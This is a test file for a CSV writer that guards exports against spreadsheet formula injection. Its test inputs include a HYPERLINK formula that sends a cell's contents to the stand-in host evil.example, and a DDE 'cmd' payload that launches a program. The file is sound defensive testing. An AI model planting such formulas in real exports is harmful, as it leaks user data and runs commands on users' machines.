import assert from 'node:assert/strict';
import { test } from 'node:test';

import { csvLine } from '../../src/account-api/csv.ts';

test('no cell of text is a formula for a spreadsheet; numbers stay numbers', () => {
  for (const first of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) {
    for (const rest of ['', '1+1', 'HYPERLINK("https://evil.example?x="&A1,"open")', "cmd|' /C calc'!A0"]) {
      const line = csvLine([`${first}${rest}`, 'after']);
      assert.match(line, /^"?'/, JSON.stringify(line));
      assert.ok(line.endsWith(',after\r\n'), JSON.stringify(line));
    }
  }
  assert.equal(csvLine([-1, -2n, 'a=b', '', null, true]), '-1,-2,a=b,,,true\r\n');
});

test('a cell cannot end itself or its line', () => {
  assert.equal(csvLine(['a","=1', 'b\r\n=2', ',']), '"a"",""=1","b\r\n=2",","\r\n');
});
